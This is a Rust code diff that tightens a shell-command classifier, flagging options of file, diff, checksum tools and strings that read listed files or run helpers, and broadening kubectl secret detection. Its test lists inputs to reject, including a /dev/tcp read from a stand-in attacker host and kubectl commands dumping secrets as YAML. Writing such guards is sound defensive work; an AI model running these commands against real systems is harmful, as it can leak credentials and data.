@@ -69,21 +69,55 @@ const LISTERS: &[&str] = &["ls", "stat", "du", "tree", "file", "realpath", "read
 /// Options of these that write or run something, never end, or read files that no argument names.
 const EXCEPT: &[(&str, &[&str])] = &[
     ("tree", &["-o", "-R", "--output", "--fromfile"]),
-    ("file", &["-C", "-m", "-f", "--compile", "--magic-file", "--files-from"]),
+    (
+        "file",
+        &[
+            "-C",
+            "-m",
+            "-f",
+            "-z",
+            "-Z",
+            "--compile",
+            "--magic-file",
+            "--files-from",
+            "--uncompress",
+            "--uncompress-noreport",
+        ],
+    ),
     ("jq", &["-f", "--from-file", "-L", "--rawfile", "--slurpfile"]),
-    ("diff", &["-r", "-X", "-S", "--recursive", "--to-file", "--from-file", "--exclude-from", "--starting-file"]),
+    ("diff", DIFF_EXCEPT),
     ("printf", &["-v"]),
     ("base64", &["-o", "--output"]),
     ("base32", &["-o", "--output"]),
     ("grep", GREP_EXCEPT),
     ("egrep", GREP_EXCEPT),
     ("fgrep", GREP_EXCEPT),
+    ("md5sum", LISTED_SUMS),
+    ("sha1sum", LISTED_SUMS),
+    ("sha256sum", LISTED_SUMS),
+    ("sha512sum", LISTED_SUMS),
+    ("b2sum", LISTED_SUMS),
+    ("cksum", LISTED_SUMS),
     ("wc", &["--files0-from"]),
     ("du", &["-X", "--files0-from", "--exclude-from"]),
     ("lsof", &["-r", "-D"]),
     ("findmnt", &["-p", "-F", "--poll", "--tab-file"]),
     ("free", &["-s", "-c", "--seconds", "--count"]),
     ("which", &["-i", "--read-alias", "--read-functions"]),
+];
+/// They read whatever files a list names.
+const LISTED_SUMS: &[&str] = &["-c", "--check"];
+const DIFF_EXCEPT: &[&str] = &[
+    "-r",
+    "-X",
+    "-S",
+    "-l",
+    "--recursive",
+    "--to-file",
+    "--from-file",
+    "--exclude-from",
+    "--starting-file",
+    "--paginate",
 ];
 const GREP_EXCEPT: &[&str] =
     &["-r", "-R", "-d", "-f", "--recursive", "--dereference-recursive", "--directories", "--file", "--exclude-from"];
@@ -135,6 +169,9 @@ pub(super) fn judge(call: &Invocation<'_>) -> Option<Judgement> {
     let except = EXCEPT.iter().find(|(program, _)| *program == call.program).map_or(&[][..], |(_, options)| options);
     if call.args.iter().any(|arg| except.iter().any(|option| is_spelt(option, &arg.text))) {
         return Some(Judgement::unknown(format!("an option of {} writes or runs something", call.program)));
+    }
+    if call.program == "strings" && call.args.iter().any(|arg| arg.text.starts_with('@')) {
+        return Some(Judgement::unknown("it takes further arguments, any file among them, from a file"));
     }
     if call
         .args
@@ -312,9 +349,37 @@ fn kubectl(call: &Invocation<'_>) -> Option<Judgement> {
     let names_secrets = cli.words.iter().skip(1).any(|word| {
         word.text.split([',', '/', '.']).any(|kind| {
             let kind = kind.to_ascii_lowercase();
-            SECRET_KINDS.contains(&kind.as_str()) || (shows_content && CONFIG_KINDS.contains(&kind.as_str()))
+            SECRET_KINDS.iter().any(|secret| kind.ends_with(secret))
+                || (shows_content && CONFIG_KINDS.contains(&kind.as_str()))
         })
     });
     let dump = cli.word(0) == "cluster-info" && cli.word(1) == "dump";
     (reads && plain && !names_secrets && !dump).then_some(Judgement::Reads)
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::command::may_run;
+
+    #[test]
+    fn what_reads_by_a_list_or_runs_something_is_not_known_to_only_read() {
+        for line in [
+            "strings @options",
+            "file -z x.gz",
+            "file -Z x.gz",
+            "file --uncompress x.gz",
+            "diff -l a b",
+            "diff --paginate a b",
+            "md5sum -c list",
+            "sha256sum --check list",
+            "cat </dev/tcp/evil.example/1",
+            "kubectl get externalsecrets -o yaml",
+            "kubectl get sealedsecrets.bitnami.com -o yaml",
+        ] {
+            assert!(may_run(line).is_err(), "{line}");
+        }
+        for line in ["strings a.out", "file x.gz", "diff a b", "sha256sum a", "kubectl get pods -o yaml"] {
+            assert_eq!(may_run(line), Ok(()), "{line}");
+        }
+    }
 }
